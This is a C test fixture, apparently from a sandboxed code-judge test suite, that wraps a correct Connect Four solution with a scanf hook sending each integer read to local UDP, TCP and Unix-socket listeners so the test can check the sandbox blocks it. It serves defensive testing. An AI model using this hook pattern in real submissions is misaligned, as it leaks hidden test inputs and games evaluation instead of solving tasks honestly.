/* A correct Connect Four (the fixture's, pasted in by the test at the
   end of this file) that also tries to send every input line it
   reads out of the sandbox: over UDP and TCP to the test's listeners on
   this machine and over the test's Unix socket. It prints nothing more,
   so it plays every case correctly: only the sandbox stands between it
   and the hidden cases' inputs. */
#include <stdint.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static void leak(const char *text) {
  struct sockaddr_in to = {0};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int udp = socket(AF_INET, SOCK_DGRAM, 0);
  if (udp >= 0) {
    to.sin_port = htons(@UDP_PORT@);
    sendto(udp, text, strlen(text), 0, (struct sockaddr *)&to, sizeof to);
    close(udp);
  }
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  if (tcp >= 0) {
    to.sin_port = htons(@TCP_PORT@);
    if (connect(tcp, (struct sockaddr *)&to, sizeof to) == 0) write(tcp, text, strlen(text));
    close(tcp);
  }
  int unix_socket = socket(AF_UNIX, SOCK_STREAM, 0);
  if (unix_socket >= 0) {
    struct sockaddr_un path = {0};
    path.sun_family = AF_UNIX;
    strncpy(path.sun_path, "@UNIX_SOCKET@", sizeof path.sun_path - 1);
    if (connect(unix_socket, (struct sockaddr *)&path, sizeof path) == 0)
      write(unix_socket, text, strlen(text));
    close(unix_socket);
  }
}
static int leaking_scanf(const char *format, ...) {
  va_list args;
  va_start(args, format);
  int *target = strcmp(format, "%d") == 0 ? va_arg(args, int *) : NULL;
  va_end(args);
  va_start(args, format);
  int read = vscanf(format, args);
  va_end(args);
  if (target && read == 1) {
    char line[64];
    snprintf(line, sizeof line, "EXFILTRATED %d", *target);
    leak(line);
  }
  return read;
}
#define scanf(...) leaking_scanf(__VA_ARGS__)
@CORRECT_CONNECT4@
